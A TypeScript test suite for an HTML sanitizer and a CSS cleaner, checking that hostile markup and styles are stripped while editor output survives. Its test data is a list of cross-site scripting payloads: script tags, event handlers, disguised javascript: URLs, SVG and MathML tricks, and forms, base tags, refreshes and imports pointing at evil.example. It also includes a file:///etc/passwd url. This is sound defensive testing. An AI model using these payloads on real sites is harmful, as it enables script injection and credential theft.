import assert from 'node:assert/strict';
import { test } from 'node:test';
import fc from 'fast-check';
import { cleanCss } from './clean-css.ts';
import { sanitizePage } from './sanitize.ts';

const HOSTILE: readonly [what: string, html: string][] = [
  ['a script', '<p>a</p><script>alert(1)</script>'],
  ['a script in capitals', '<SCRIPT SRC=//evil.example/x.js></SCRIPT>'],
  ['a handler', '<img src="/a.png" onerror="alert(1)">'],
  ['a handler in mixed case', '<div oNcLiCk="alert(1)">a</div>'],
  ['a javascript address', '<a href="javascript:alert(1)">a</a>'],
  ['a javascript address in disguise', '<a href="java&#9;script:alert(1)">a</a>'],
  ['a data document', '<a href="data:text/html,<script>alert(1)</script>">a</a>'],
  ['a frame with a document', '<iframe srcdoc="<script>alert(1)</script>"></iframe>'],
  ['an object', '<object data="x.swf"></object><embed src="x.swf">'],
  ['a base', '<base href="https://evil.example/">'],
  ['a refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example">'],
  ['a form to elsewhere', '<form action="https://evil.example"><input name="password"></form>'],
  ['a script in a drawing', '<svg><script>alert(1)</script><a xlink:href="javascript:alert(1)"><rect/></a></svg>'],
  ['a foreign object', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe></foreignObject></svg>'],
  ['an animated address', '<svg><animate attributeName="href" values="javascript:alert(1)"/></svg>'],
  ['a style element', '<style>@import url(//evil.example/x.css)</style>'],
  ['an expression', '<p style="width:expression(alert(1))">a</p>'],
  ['a script in a picture style', '<p style="background:url(javascript:alert(1))">a</p>'],
  ['a picture that is a document', '<img src="data:text/html;base64,PHNjcmlwdD4=">'],
  ['a comment that ends early', '<!--><img src=x onerror=alert(1)>-->'],
  ['a broken tag', '<img src="x" onerror=alert(1) <p'],
  ['a template', '<template><script>alert(1)</script></template>'],
  ['a math namespace', '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>'],
];

for (const [what, html] of HOSTILE) {
  test(`takes away ${what}`, () => {
    const clean = sanitizePage(html);
    assert.doesNotMatch(clean, /<(?:script|iframe|object|embed|base|meta|form|style|template|foreignobject|animate)/i);
    assert.doesNotMatch(clean, /<[^>]*\son\w+\s*=/i);
    assert.doesNotMatch(clean, /javascript:|expression\(|data:text|evil\.example/i);
  });
}

test('keeps what our sections and the editor produce', () => {
  const html =
    '<section class="hero" data-section="hero" id="hero"><div class="wrap"><h1 class="long">Hi &amp; <em>you</em></h1>' +
    '<a class="button" href="#contact">Go</a><svg class="icon" viewBox="0 0 24 24" aria-hidden="true"><path d="m9 12 2 2"></path></svg>' +
    '<img class="hero-art" src="/v1/editor/assets/art/tiles-iris-7.svg" width="640" height="560" alt="" /></div></section>' +
    '<details open><summary>Q</summary><p style="color:#fff">A</p></details>';
  const clean = sanitizePage(html);
  for (const kept of [
    'data-section="hero"',
    'id="hero"',
    'viewBox="0 0 24 24"',
    'd="m9 12 2 2"',
    '<details open',
    'style="color:#fff"',
    '/v1/editor/assets/art/tiles-iris-7.svg',
  ]) {
    assert.ok(clean.includes(kept), `${kept} in ${clean}`);
  }
});

test('leaves out placeholders that nobody filled in', () => {
  const clean = sanitizePage(
    '<div><figure data-placeholder="quote"><p>Put words here</p></figure><figure><p>Real</p></figure></div>',
  );
  assert.equal(clean, '<div><figure><p>Real</p></figure></div>');
});

test('a link to a new tab cannot reach back', () => {
  assert.match(sanitizePage('<a href="https://example.com" target="_blank" rel="opener">a</a>'), /rel="noopener"/);
});

for (const [what, css, gone] of [
  ['an import', '@import url("//evil.example/x.css");p{color:red}', /import|evil/],
  ['an import in disguise', '@\\69mport "//evil.example";p{color:red}', /evil/],
  ['an import within a comment', '@im/**/port "//evil.example";p{color:red}', /evil/],
  ['the end of the style element', 'p{color:red}</style><script>alert(1)</script>', /<|alert\(1\)<\/script/],
  ['an import that appears once the rest is gone', '@im</port "//evil.example";p{color:red}', /evil/],
  ['a script as a picture', 'p{color:red;background:url( "javascript:alert(1)" )}', /javascript/],
  ['a foreign scheme', "p{color:red;background:url('file:///etc/passwd')}", /file:/],
] as const) {
  test(`takes ${what} out of a stylesheet`, () => {
    const clean = cleanCss(css);
    assert.doesNotMatch(clean, gone);
    assert.match(clean, /p\{color:red/);
  });
}

test('keeps rules, media queries and pictures', () => {
  const css = '#i3x{color:red;background:url(/v1/files/a.png)}@media (max-width:480px){#i3x{padding:4px 2px}}';
  assert.equal(cleanCss(css), css);
});

test('no input gets a script, a handler or a way out of the style element through', () => {
  const piece = fc.constantFrom(
    '<script',
    '>',
    '</style',
    '<',
    '"',
    "'",
    ' onerror=',
    'javascript:',
    '<img src=',
    '<svg',
    '/',
    '@import ',
    'url(',
    '/*',
    '*/',
    '\\',
    '\0',
    'a',
    ' ',
    '=',
    '&lt;',
    '<!--',
    '-->',
  );
  fc.assert(
    fc.property(fc.array(piece, { maxLength: 40 }), (pieces) => {
      const input = pieces.join('');
      const html = sanitizePage(input);
      assert.doesNotMatch(html, /<script|<style|<[^>]*\son\w+=(?!&)/i);
      assert.equal(sanitizePage(html), html, 'sanitising twice changes nothing');
      assert.doesNotMatch(cleanCss(input), /</);
    }),
    { numRuns: 500 },
  );
});
